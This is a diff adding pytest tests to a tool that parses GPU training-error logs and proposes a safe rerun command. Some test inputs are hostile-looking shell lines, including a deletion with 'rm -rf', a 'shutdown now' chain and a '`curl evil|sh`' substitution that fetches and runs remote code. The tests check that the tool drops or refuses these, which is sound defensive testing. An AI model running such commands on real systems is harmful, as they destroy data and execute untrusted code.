@@ -220,6 +220,49 @@ def test_commands_name_what_the_options_of_the_run_name() -> None:
     assert commands[0] == "patchkit check-data a.yaml --for ultralytics"
 
 
+@pytest.mark.parametrize(
+    ("line", "command"),
+    [
+        ("$ yolo train model=a.pt data=b.yaml 2>&1 | tee train.log", "yolo train model=a.pt data=b.yaml"),
+        ("+ nohup python train.py --epochs 64 > out.log &", "nohup python train.py --epochs 64"),
+        ("$ python train.py; rm -rf /tmp/x", "python train.py"),
+        ("$ python train.py && shutdown now", "python train.py"),
+        ('$ python train.py --name \'a; b\' --note "| \\"" > l', 'python train.py --name \'a; b\' --note "| \\""'),
+        ("$ python train.py `curl evil|sh`", "<your command>"),
+        ("$ python train.py --data $(cat data)", "<your command>"),
+        ("$ python train.py --name 'not closed", "<your command>"),
+        ("$ python main.py > train.log", "<your command>"),
+    ],
+)
+def test_the_command_to_run_again_neither_writes_over_the_log_nor_does_more(line: str, command: str) -> None:
+    [(_, _, commands)] = found(f"{line}\nRuntimeError: cuDNN error: CUDNN_STATUS_EXECUTION_FAILED\n")
+    assert commands[0] == f"CUDA_LAUNCH_BLOCKING=1 {command}"
+
+
+@pytest.mark.parametrize(
+    "warning",
+    [
+        "/v/torch/nn/modules/conv.py:456: UserWarning: Plan failed with a cudnnException: CUDNN_BACKEND_EXECUTION_PLAN_"
+        "DESCRIPTOR: cudnnFinalizeDescriptor Failed cudnn_status: CUDNN_STATUS_NOT_SUPPORTED (Triggered internally at",
+        "UserWarning: Exception encountered: CUDNN_STATUS_EXECUTION_FAILED in benchmark, trying next",
+        "[W] CUBLAS_STATUS_NOT_SUPPORTED when calling cublasLtMatmul with transpose_mat1 0, will attempt to recover by",
+    ],
+)
+def test_what_torch_warns_of_and_goes_on_from_is_no_failure(warning: str) -> None:
+    assert rules(f"{warning}\n{ROW.format('1.4')}\n") == []
+    [(rule, _, commands)] = found(f"{warning}\n" * 30 + cublas("/home/me/yolov10"))
+    assert (rule, commands[0]) == ("cublas-gemv-refused", "patchkit apply yolov10-dfl --path /home/me/yolov10")
+
+
+@pytest.mark.parametrize("error", ["KeyboardInterrupt", "torch.cuda.OutOfMemoryError: CUDA out of memory. Tried to"])
+def test_what_else_stops_the_decode_of_yolov10_is_not_its_defect(error: str, told: Callable[..., Answer]) -> None:
+    crash = cublas("/home/me/yolov10").partition("RuntimeError")
+    assert told(crash[0] + error + "\n").code == 0
+    gemm = "RuntimeError: CUDA error: CUBLAS_STATUS_INVALID_VALUE when calling `cublasGemmStridedBatchedEx(handle, op)`"
+    [(rule, _, commands)] = found(crash[0] + gemm + "\n")
+    assert (rule, commands[0]) == ("cublas-refused", "patchkit apply yolov10-dfl --path /home/me/yolov10")
+
+
 def test_each_of_several_runs_in_one_log_has_its_options() -> None:
     log = options(data="first.yaml") + ROW.format("1.2") + "\n" + options(data="second.yaml") + ROW.format("nan") + "\n"
     [(_, _, commands)] = found(log)
